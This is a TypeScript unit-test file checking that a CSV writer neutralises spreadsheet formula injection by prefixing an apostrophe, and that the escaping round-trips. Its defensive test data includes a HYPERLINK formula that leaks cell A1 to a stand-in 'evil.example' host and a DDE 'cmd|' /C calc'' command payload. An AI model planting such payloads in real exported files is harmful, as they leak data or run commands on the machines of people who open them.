import { expect, test } from "vitest";
import { csvLine, unguarded } from "./csv-text.ts";

/** The only cell of a line, as whoever reads quotes sees it. */
const cellOf = (text: string) => /^"(.*)"\r\n$/s.exec(csvLine([text]))?.[1]?.replaceAll('""', '"') ?? "";

test("nothing in a cell is computed where a spreadsheet separates by semicolons, tabs or line breaks, and what is read again says what it said [ATTACK-62]", () => {
  for (const [said, written] of [
    ['x;=HYPERLINK("https://evil.example/?"&A1,"open");y', `x;'=HYPERLINK("https://evil.example/?"&A1,"open");y`],
    ["x\n=1+1", "x\n'=1+1"],
    ["x\r\n  @SUM(1)", "x\r\n'  @SUM(1)"],
    ["x\t-2+3+cmd|' /C calc'!A0", "x\t'-2+3+cmd|' /C calc'!A0"],
    [`x; "'=1`, `x;' "'=1`],
    ["=1;=2\n+A1!B2", "'=1;'=2\n'+A1!B2"],
    ["x\n\n =1", "x\n\n' =1"],
    ["x；=1;＝1", "x；=1;'＝1"],
  ] as const) {
    expect(cellOf(said), said).toBe(written);
    expect(unguarded(written), said).toBe(said);
  }
});

test("lists of points, semicolons and apostrophes in a text stay as they are", () => {
  for (const said of ["One of:\n- red\n- green\n+ blue", "first; second", "it's; 'quoted'", "a\n\nb", "10 - 5; a = b"]) {
    expect(cellOf(said)).toBe(said);
    expect(unguarded(said)).toBe(said);
  }
});
